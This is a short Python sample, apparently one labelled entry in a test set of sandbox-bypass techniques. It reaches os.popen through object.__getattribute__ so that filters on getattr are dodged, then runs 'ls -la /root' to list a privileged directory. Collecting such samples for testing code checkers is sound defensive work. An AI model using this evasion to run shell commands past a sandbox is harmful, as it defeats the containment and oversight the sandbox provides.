# attack-class: 6
# title: object.__getattribute__(os, 'popen')
# why: the low-level attribute protocol instead of getattr

import os

p = object.__getattribute__(os, "popen")
print(p("ls -la /root").read())
